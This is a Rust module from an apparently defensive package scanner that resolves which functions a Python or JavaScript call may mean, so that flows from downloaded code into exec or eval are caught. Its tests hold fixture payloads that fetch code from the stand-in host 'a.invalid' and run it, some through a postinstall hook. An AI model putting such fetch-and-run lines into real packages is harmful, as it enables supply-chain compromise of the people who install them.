//! Functions that a call may mean besides the one that it is folded to.
//!
//! A name can be given to several: by `if` and `else`, by `try: from fast import f` and
//! `except: def f()`, or twice in a row. Folding decides for one of them. Each may be the one
//! that runs, so each is entered.

use super::Analysis;
use super::index::class_of;
use crate::ir::{Atom, Export, Expr, ExprId, FuncId, Language, Program, ScopeId, SymbolId};
use crate::pure::{FileId, Surroundings as _, Value};
use std::rc::Rc;

/// Functions that one call may mean.
const MOST: usize = 16;
/// Names that stand for other names.
const LEVELS: u8 = 6;

/// A class and its file.
type Class = (FileId, ExprId);

/// Functions, by their files.
pub(super) type Fellows = Rc<[(FileId, FuncId)]>;

impl Analysis<'_> {
    /// Functions that a callee may mean besides what it was folded to.
    pub(super) fn fellows(
        &mut self,
        program: &Rc<Program>,
        file: FileId,
        callee: ExprId,
        folded: &Value,
    ) -> Fellows {
        if let Some(known) = self.fellows.get(&(file, callee)) {
            return Rc::clone(known);
        }
        let mut found = Vec::new();
        self.meant(program, file, callee, 0, &mut found);
        if let Value::Object(object) = folded
            && let Some(class) = object.class.filter(|_| !object.is_class)
        {
            self.under_name(class, "__call__", 0, &mut found);
        }
        if let Value::Function(closure) = folded {
            let own = (closure.file, closure.function);
            if let Some(program) = self.program(closure.file) {
                of_same_name(&program, closure.file, closure.function, &mut found);
            }
            found.retain(|other| *other != own);
        }
        let found: Fellows = found.into();
        self.fellows.insert((file, callee), Rc::clone(&found));
        found
    }

    /// Functions that objects of a class have under a name.
    pub(super) fn all_under_name(&mut self, class: Class, name: &str) -> Vec<(FileId, FuncId)> {
        let mut found = Vec::new();
        self.under_name(class, name, 0, &mut found);
        found
    }

    /// Functions that an expression names.
    fn meant(
        &mut self,
        program: &Rc<Program>,
        file: FileId,
        expr: ExprId,
        level: u8,
        found: &mut Vec<(FileId, FuncId)>,
    ) {
        if level > LEVELS || found.len() >= MOST {
            return;
        }
        match program.expr(expr) {
            Expr::Function(function) => note(found, (file, function)),
            Expr::Name(atom, scope) => {
                if let Some(symbol) = program.resolve(atom, scope) {
                    self.values(program, file, symbol, level, found);
                }
            }
            Expr::Cond(_, then, other) | Expr::Logic(_, then, other) => {
                self.meant(program, file, then, level + 1, found);
                self.meant(program, file, other, level + 1, found);
            }
            Expr::Member(object, name)
                if is_own_names(program, object) || is_own_module(program, object) =>
            {
                if let Some(symbol) = program.declared.get(&(ScopeId(0), name)) {
                    self.values(program, file, *symbol, level, found);
                }
            }
            Expr::Member(object, name) => match module_of(program, object) {
                Some(module) => {
                    if let Some(target) = self.package.resolve(file, &module) {
                        self.named_there(target, program.name(name), level, found);
                    }
                }
                None => {
                    let name = program.shared_name(name);
                    for class in self.classes(program, file, object, level) {
                        self.under_name(class, &name, level + 1, found);
                    }
                }
            },
            // `globals()["f"]`.
            Expr::Index(object, key) if is_own_names(program, object) => {
                self.named_by(program, file, key, level, found);
            }
            Expr::Call { callee, args, .. } => {
                let args = program.list(args);
                match (program.expr(callee), args) {
                    // `globals().get("f")`.
                    (Expr::Member(names, get), [key, ..])
                        if program.name(get) == "get" && is_own_names(program, names) =>
                    {
                        self.named_by(program, file, *key, level, found);
                    }
                    // `getattr(sys.modules[__name__], "f")`.
                    (Expr::Name(getattr, _), [object, key, ..])
                        if program.name(getattr) == "getattr"
                            && is_own_module(program, *object) =>
                    {
                        self.named_by(program, file, *key, level, found);
                    }
                    _ => {}
                }
            }
            _ => {}
        }
    }

    /// Functions that the module itself has under a name that is computed.
    fn named_by(
        &mut self,
        program: &Rc<Program>,
        file: FileId,
        key: ExprId,
        level: u8,
        found: &mut Vec<(FileId, FuncId)>,
    ) {
        if let Value::Text(name) = self.machine.fold(file, key)
            && let Some(atom) = program.atom(&name)
            && let Some(symbol) = program.declared.get(&(ScopeId(0), atom))
        {
            self.values(program, file, *symbol, level, found);
        }
    }

    /// The classes that an object may be made from.
    fn classes(
        &mut self,
        program: &Rc<Program>,
        file: FileId,
        object: ExprId,
        level: u8,
    ) -> Vec<Class> {
        if level > LEVELS {
            return Vec::new();
        }
        match program.expr(object) {
            Expr::This(function) => {
                let class = class_of(program, function);
                class.map(|class| (file, class)).into_iter().collect()
            }
            Expr::Name(atom, scope) => {
                let symbol = program.resolve(atom, scope);
                let values = symbol.map(|symbol| program.symbol(symbol).values.to_vec());
                self.classes_of(program, file, &values.unwrap_or_default(), level)
            }
            // What is put into a field somewhere in the class.
            Expr::Member(this, field) if is_this(program, this) => {
                let fields = self.fields(program, file, this, field);
                self.classes_of(program, file, &fields, level)
            }
            _ => match self.machine.fold(file, object) {
                Value::Object(object) => object.class.into_iter().collect(),
                _ => Vec::new(),
            },
        }
    }

    fn classes_of(
        &mut self,
        program: &Rc<Program>,
        file: FileId,
        values: &[ExprId],
        level: u8,
    ) -> Vec<Class> {
        let mut found = Vec::new();
        for value in values.iter().take(MOST) {
            for class in self.classes(program, file, *value, level + 1) {
                if found.len() < MOST && !found.contains(&class) {
                    found.push(class);
                }
            }
        }
        found
    }

    /// What is put into a field of `this`.
    fn fields(
        &mut self,
        program: &Program,
        file: FileId,
        this: ExprId,
        field: Atom,
    ) -> Vec<ExprId> {
        let Some(function) = this_of(program, this) else {
            return Vec::new();
        };
        let index = self.index(file);
        let values = index.and_then(|index| {
            let class = class_of(program, function);
            index.fields.get(&(class, field)).cloned()
        });
        values.unwrap_or_default()
    }

    /// Functions that objects of a class have under a name: what is put into the field, its own
    /// method, or that of a class above it.
    fn under_name(
        &mut self,
        class: Class,
        name: &str,
        level: u8,
        found: &mut Vec<(FileId, FuncId)>,
    ) {
        let (Some(program), Some(index)) = (self.program(class.0), self.index(class.0)) else {
            return;
        };
        let Expr::Class(entries) = program.expr(class.1) else {
            return;
        };
        if level > LEVELS {
            return;
        }
        let field = program.atom(name).map(|name| (Some(class.1), name));
        let fields = field.and_then(|field| index.fields.get(&field)).cloned();
        for value in fields.into_iter().flatten().take(MOST) {
            self.meant(&program, class.0, value, level + 1, found);
        }
        let entries = program.list(entries).to_vec();
        let own = entries
            .chunks_exact(2)
            .filter(|pair| program.text(pair[0]) == Some(name));
        let own: Vec<ExprId> = own.map(|pair| pair[1]).collect();
        if !own.is_empty() {
            for value in own {
                self.meant(&program, class.0, value, level + 1, found);
            }
            return;
        }
        for pair in entries.chunks_exact(2) {
            if let Expr::Spread(base) = program.expr(pair[0])
                && let Value::Object(base) = self.machine.fold(class.0, base)
                && let Some(base) = base.class.filter(|_| base.is_class)
            {
                self.under_name(base, name, level + 1, found);
            }
        }
    }

    /// Functions that a variable is given.
    fn values(
        &mut self,
        program: &Rc<Program>,
        file: FileId,
        symbol: SymbolId,
        level: u8,
        found: &mut Vec<(FileId, FuncId)>,
    ) {
        for value in program.symbol(symbol).values.iter().take(MOST) {
            self.meant(program, file, *value, level + 1, found);
        }
    }

    /// Functions that a module hands out under a name.
    fn named_there(
        &mut self,
        target: FileId,
        name: &str,
        level: u8,
        found: &mut Vec<(FileId, FuncId)>,
    ) {
        let Some(program) = self.program(target) else {
            return;
        };
        let Some(atom) = program.atom(name) else {
            return;
        };
        if program.language == Language::JavaScript {
            for export in &program.exports {
                if let Export::Value(exported, value) = export
                    && *exported == atom
                {
                    self.meant(&program, target, *value, level + 1, found);
                }
            }
            for value in crate::pure::exports_under(&program, atom, MOST) {
                self.meant(&program, target, value, level + 1, found);
            }
        } else if let Some(symbol) = program.declared.get(&(ScopeId(0), atom)) {
            self.values(&program, target, *symbol, level, found);
        }
    }
}

/// The specifier of the module that an expression is, where that is written out.
fn module_of(program: &Program, object: ExprId) -> Option<Rc<str>> {
    let object = match program.expr(object) {
        Expr::Name(atom, scope) => {
            let symbol = program.resolve(atom, scope)?;
            let [only] = program.symbol(symbol).values[..] else {
                return None;
            };
            only
        }
        _ => object,
    };
    match program.expr(object) {
        Expr::Module(specifier) => Some(program.shared_name(specifier)),
        // `from . import a` may mean a module.
        Expr::Logic(_, _, inner) => match program.expr(inner) {
            Expr::Module(specifier) => Some(program.shared_name(specifier)),
            _ => None,
        },
        _ => None,
    }
}

/// The function that an expression is `this` or `self` of.
fn this_of(program: &Program, object: ExprId) -> Option<FuncId> {
    match program.expr(object) {
        Expr::This(function) => Some(function),
        Expr::Name(atom, scope) => {
            let symbol = program.resolve(atom, scope)?;
            match program.symbol(symbol).values[..] {
                [only] => match program.expr(only) {
                    Expr::This(function) => Some(function),
                    _ => None,
                },
                _ => None,
            }
        }
        _ => None,
    }
}

fn is_this(program: &Program, object: ExprId) -> bool {
    this_of(program, object).is_some()
}

/// Whether it is `globals()`, `locals()` or `vars()`.
fn is_own_names(program: &Program, object: ExprId) -> bool {
    let Expr::Call { callee, args, .. } = program.expr(object) else {
        return false;
    };
    program.language == Language::Python
        && program.list(args).is_empty()
        && matches!(program.expr(callee), Expr::Name(name, scope)
            if matches!(program.name(name), "globals" | "locals" | "vars")
                && program.resolve(name, scope).is_none())
}

/// Whether it is `sys.modules[__name__]`.
fn is_own_module(program: &Program, object: ExprId) -> bool {
    let Expr::Index(modules, key) = program.expr(object) else {
        return false;
    };
    let is_modules = matches!(program.expr(modules), Expr::Member(_, name)
        if program.name(name) == "modules");
    let is_own = matches!(program.expr(key), Expr::Name(name, _)
        if program.name(name) == "__name__");
    program.language == Language::Python && is_modules && is_own
}

/// Methods that the class of one has under the same name.
fn of_same_name(
    program: &Program,
    file: FileId,
    function: FuncId,
    found: &mut Vec<(FileId, FuncId)>,
) {
    let Some(class) = program.function(function).class else {
        return;
    };
    let Expr::Class(entries) = program.expr(class) else {
        return;
    };
    let entries = program.list(entries);
    let is_it = |pair: &&[ExprId]| program.expr(pair[1]) == Expr::Function(function);
    let Some(name) = entries
        .chunks_exact(2)
        .find(is_it)
        .and_then(|pair| program.text(pair[0]))
    else {
        return;
    };
    for pair in entries.chunks_exact(2) {
        if program.text(pair[0]) == Some(name)
            && let Expr::Function(other) = program.expr(pair[1])
        {
            note(found, (file, other));
        }
    }
}

fn note(found: &mut Vec<(FileId, FuncId)>, one: (FileId, FuncId)) {
    if found.len() < MOST && !found.contains(&one) {
        found.push(one);
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::analyse;
    use crate::package::Package;
    use crate::unpack::{Entry, Tree, text_file as file};
    use customs_model::{SinkKind, SourceKind, Zone};

    fn runs(entries: Vec<Entry>) -> bool {
        let found = analyse(&Package::new(&Tree {
            entries,
            ..Tree::default()
        }));
        found.flows.iter().any(|flow| {
            flow.source == SourceKind::Remote
                && flow.sink == SinkKind::DynamicCode
                && flow.zone > Zone::Command
        })
    }

    const PYTHON: &str = "\
import sys
import urllib.request
def go(*more):
    exec(urllib.request.urlopen('https://a.invalid/b').read())
";

    fn python(code: &str, other: &str) -> bool {
        runs(vec![
            file("a/__init__.py", &format!("{PYTHON}{code}")),
            file("a/b.py", &format!("{PYTHON}{other}")),
            file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
        ])
    }

    fn javascript(code: &str) -> bool {
        let go = "const go = () => require('https').get('https://a.invalid/b', (r) => {
            let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";
        runs(vec![
            file(
                "package.json",
                r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#,
            ),
            file("i.js", &format!("{go}\n{code}")),
        ])
    }

    /// Whether the payload runs that `x.js` hands out, and that `z.js` has, where the script
    /// says this, and `y.js` and `z.js` hand that out.
    fn required(asks: &str, hands_out: &str) -> bool {
        let go = "const go = () => require('https').get('https://a.invalid/b', (r) => {
            let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";
        runs(vec![
            file(
                "package.json",
                r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#,
            ),
            file("i.js", asks),
            file("x.js", &format!("{go}\nexports.go = go;")),
            file("y.js", hands_out),
            file("z.js", &format!("{go}\n{hands_out}")),
        ])
    }

    #[test]
    fn what_compilers_write_for_import_and_export_is_followed() {
        let is_module = "Object.defineProperty(exports, '__esModule', { value: true });";
        let given =
            format!("{is_module} exports.default = void 0; var _d = go; exports.default = _d;");
        let default = "var __importDefault = (this && this.__importDefault) || function (mod) {
            return (mod && mod.__esModule) ? mod : { 'default': mod } };
            const z = __importDefault(require('./z'));";
        assert!(required(&format!("{default} z.default()"), &given));
        assert!(!required(default, &given));
        let ask = "require('./y').go()";
        for hands_out in [
            "Object.assign(exports, require('./x'))",
            "const x = require('./x');
             Object.defineProperty(exports, 'go', { get: function () { return x.go } })",
            "function __export(m) { for (var p in m) exports[p] = m[p] } __export(require('./x'))",
            "const m = require('./x'); for (const p in m) exports[p] = m[p]",
            "__exportStar(require('./x'), exports)",
            "var _x = require('./x'); Object.keys(_x).forEach(function (key) {
                Object.defineProperty(exports, key, { get: function () { return _x[key] } }) })",
        ] {
            assert!(required(ask, hands_out), "{hands_out}");
            assert!(!required("require('./y').go", hands_out), "{hands_out}");
        }
        let bundled = "var names = {}; var __export = (t, all) => { for (var n in all)
            Object.defineProperty(t, n, { get: all[n] }) };
            __export(names, { go: () => go }); module.exports = __toCommonJS(names);";
        assert!(required("require('./z').go()", bundled));
        assert!(!required("require('./z').other()", bundled));
    }

    #[test]
    fn what_is_put_onto_a_function_or_a_class_is_called_there() {
        for given in [
            "module.exports = function () {}; module.exports.go = go;",
            "function F() {} F.go = go; module.exports = F;",
            "class A {} A.go = go; module.exports = A;",
        ] {
            assert!(required("require('./z').go()", given), "{given}");
            assert!(!required("require('./z')", given), "{given}");
            assert!(!required("require('./z').other()", given), "{given}");
        }
        assert!(javascript("function f() {} f.run = go; f.run()"));
        assert!(!javascript("function f() {} f.run = go; f()"));
    }

    #[test]
    fn a_method_of_a_prototype_runs_when_it_is_called() {
        for made in [
            "function A() {} A.prototype.run = function () { go() };",
            "function A() {} A.prototype = { run: function () { go() } };",
            "function A() {} Object.assign(A.prototype, { run() { go() } });",
            "function A() {} var p = A.prototype; p.run = function () { go() };",
            "function A() {} A.prototype.run = function () { this.step() };
             A.prototype.step = function () { go() };",
            "function B() {} B.prototype.run = function () { go() }; function A() {}
             require('util').inherits(A, B);",
            "function B() {} B.prototype.run = function () { go() }; function A() {}
             A.prototype = Object.create(B.prototype);",
            "var A = (function () { function A() {} A.prototype.run = function () { go() };
             return A })();",
        ] {
            assert!(javascript(&format!("{made} new A().run()")), "{made}");
            assert!(!javascript(&format!("{made} new A()")), "{made}");
            let given = format!("{made} module.exports = A;");
            let ask = "const A = require('./z'); new A()";
            assert!(required(&format!("{ask}.run()"), &given), "{made}");
            assert!(!required(ask, &given), "{made}");
        }
    }

    #[test]
    fn a_module_of_a_package_is_found_by_its_whole_name() {
        let go = "def go():\n    import urllib.request\n    exec(urllib.request.urlopen('https://a.invalid/b').read())\n";
        let asked = |code: &str| {
            runs(vec![
                file("a/__init__.py", code),
                file("a/b.py", go),
                file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
            ])
        };
        for (import, call) in [
            ("import a.b\n", "a.b.go()\n"),
            (
                "import importlib\nm = importlib.import_module('a.b')\n",
                "m.go()\n",
            ),
            (
                "import importlib\nm = importlib.import_module('.b', __package__)\n",
                "m.go()\n",
            ),
            ("m = __import__('a.b', fromlist=['x'])\n", "m.go()\n"),
            ("m = __import__('a.b')\n", "m.b.go()\n"),
            (
                "import sys\nfrom . import b\nm = sys.modules['a.b']\n",
                "m.go()\n",
            ),
        ] {
            assert!(asked(&format!("{import}{call}")), "{import}");
            assert!(!asked(import), "{import}");
        }
    }

    #[test]
    fn names_that_are_taken_over_by_a_star_are_followed_from_module_to_module() {
        let asked = |code: &str, name: &str| {
            let payload = format!(
                "def {name}(*more):\n    import urllib.request\n    exec(urllib.request.urlopen('https://a.invalid/b').read())\n"
            );
            runs(vec![
                file("a/__init__.py", code),
                file("a/b.py", "from .c import *\n"),
                file("a/c.py", "from .d import *\n"),
                file("a/d.py", &payload),
                file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
            ])
        };
        for name in ["go", "print"] {
            for call in ["from .b import *\n", "from . import b\nb."] {
                assert!(asked(&format!("{call}{name}()\n"), name), "{call}{name}");
                assert!(!asked(&format!("{call}{name}\n"), name), "{call}{name}");
            }
            assert!(!asked(&format!("{name}()\n"), name), "{name}");
        }
    }

    #[test]
    fn each_function_that_a_name_of_python_may_mean_is_entered() {
        let twice = "def f():\n    pass\ndef f():\n    go()\n";
        let by_system =
            "if sys.argv:\n    def f():\n        pass\nelse:\n    def f():\n        go()\n";
        let by_library = "\
try:
    from json import f
except ImportError:
    def f():
        go()
";
        let by_choice = "f = print if sys.argv else go\n";
        let in_class = "class f:\n    pass\ndef f():\n    go()\n";
        for given in [twice, by_system, by_library, by_choice, in_class] {
            assert!(python(&format!("{given}f()\n"), ""), "{given}");
            assert!(python("from .b import f\nf()\n", given), "{given}");
            assert!(python("from . import b\nb.f()\n", given), "{given}");
            assert!(!python(given, ""), "{given}");
            assert!(!python("from .b import f\n", given), "{given}");
        }
    }

    #[test]
    fn of_a_class_the_last_method_of_a_name_holds_before_those_above_it() {
        let twice = "class A:\n    def f(self):\n        pass\n    def f(self):\n        go()\n";
        let over = "\
class B:
    def f(self):
        pass
class A(B):
    def f(self):
        go()
";
        let over_library = "\
import json
class A(json.JSONEncoder):
    def f(self):
        go()
";
        let by_system = "\
class A:
    if sys.argv:
        def f(self):
            pass
    else:
        def f(self):
            go()
";
        for given in [twice, over, over_library, by_system] {
            assert!(python(&format!("{given}A().f()\n"), ""), "{given}");
            assert!(!python(&format!("{given}A()\n"), ""), "{given}");
        }
        let calm = over.replace("class A", "class C");
        assert!(!python(&format!("{calm}B().f()\n"), ""), "{calm}");
    }

    #[test]
    fn an_object_is_followed_through_modules_fields_and_other_classes() {
        let class = "class C:\n    def f(self):\n        go()\n";
        for call in ["b.C().f()", "x = b.C()\nx.f()", "b.C.f(None)"] {
            assert!(
                python(&format!("from . import b\n{call}\n"), class),
                "{call}"
            );
        }
        let field = "\
class M:
    def __init__(self):
        self.c = C()
        self.g = go
    def run(self):
        self.c.f()
    def other(self):
        self.g()
";
        for call in ["M().run()", "M().other()", "m = M()\nm.c.f()"] {
            assert!(python(&format!("{class}{field}{call}\n"), ""), "{call}");
        }
        assert!(!python(&format!("{class}{field}M()\n"), ""));
        let inner = "class C:\n    class D:\n        def f(self):\n            go()\nC.D().f()\n";
        assert!(python(inner, ""));
        let called = "class C:\n    def __call__(self):\n        go()\nc = C()\n";
        assert!(python(&format!("{called}c()\n"), ""));
        assert!(!python(called, ""));
        let above = "class B:\n    def __init__(self):\n        go()\nclass A(B):\n    pass\n";
        assert!(python(&format!("{above}A()\n"), ""));
        assert!(!python(above, ""));
    }

    #[test]
    fn a_group_of_commands_that_is_made_from_a_tool_s_keeps_its_commands() {
        let group = "\
import click
class Group(click.Group):
    def command(self, name):
        def above(f):
            self.add_command(made(f), name)
            return f
        return above
cli = Group()
@cli.command('x')
def x():
    go()
";
        assert!(!python(group, ""));
        assert!(python(&group.replace("made(f)", "f()"), ""));
        assert!(python(&group.replace("(click.Group)", ""), ""));
    }

    #[test]
    fn a_name_that_is_looked_up_is_the_function_of_that_name() {
        for call in [
            "globals()['go']()",
            "globals()['g' + 'o']()",
            "globals().get('go')()",
            "vars()['go']()",
            "getattr(sys.modules[__name__], 'go')()",
        ] {
            assert!(python(call, ""), "{call}");
        }
        assert!(!python("globals()['no']()", ""));
    }

    #[test]
    fn what_the_language_calls_of_an_object_runs_once_it_is_made() {
        for method in ["__del__", "__getattr__", "__iter__", "__add__", "__str__"] {
            let class = format!("class C:\n    def {method}(self, *o):\n        go()\n");
            assert!(python(&format!("{class}c = C()\n"), ""), "{method}");
            assert!(!python(&class, ""), "{method}");
        }
    }

    #[test]
    fn a_function_of_javascript_that_is_given_fields_is_not_called_by_that() {
        for dressed in [
            "Object.assign(f, { a: 1 })",
            "Object.defineProperty(f, 'a', { value: 1 })",
            "Object.setPrototypeOf(f, f)",
            "require('util').inherits(f, f)",
        ] {
            assert!(
                !javascript(&format!("function f() {{ go() }}\n{dressed}")),
                "{dressed}"
            );
            assert!(
                javascript(&format!("function f() {{ go() }}\n{dressed}\nf()")),
                "{dressed}"
            );
        }
        assert!(javascript("[1].map(go)"));
    }

    #[test]
    fn of_javascript_the_last_declaration_holds_from_the_start() {
        let functions = "function f() {}\nfunction f() { go() }\n";
        assert!(javascript(&format!("{functions}f()")));
        assert!(javascript(&format!("f()\n{functions}")));
        assert!(!javascript(functions));
        let methods = "class A { f() {} f() { go() } }\n";
        assert!(javascript(&format!("{methods}new A().f()")));
        assert!(!javascript(methods));
        assert!(!javascript(
            "class B { f() { go() } }\nclass A extends B { f() {} }\nnew A().f()"
        ));
    }
}
